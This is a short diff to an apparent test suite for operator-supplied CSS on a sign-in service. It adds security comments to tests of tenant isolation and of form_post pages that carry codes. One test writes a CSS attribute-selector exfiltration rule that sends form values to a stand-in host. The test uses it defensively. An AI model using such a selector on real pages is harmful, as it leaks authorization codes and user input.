@@ -92,6 +92,7 @@ describe('CSS that an operator writes', () => {
     assert.equal(await read(await sheetOfSignIn(plain, { organization_id: styled })), '/* organization */');
   });
 
+  // security: escaping
   it('never crosses to another tenant', async () => {
     await write(null, acmeApi);
     await write('/* default */');
@@ -120,6 +121,7 @@ describe('CSS that an operator writes', () => {
       assert.equal(await sheetAt(`${server.url}${path}`), undefined, path);
   });
 
+  // security: escaping
   it('stays away from answers that carry a code in a form', async () => {
     await write('input[value^="a"] { background: url(https://img.test/a) }');
     const extra = { response_mode: 'form_post', prompt: 'none' };
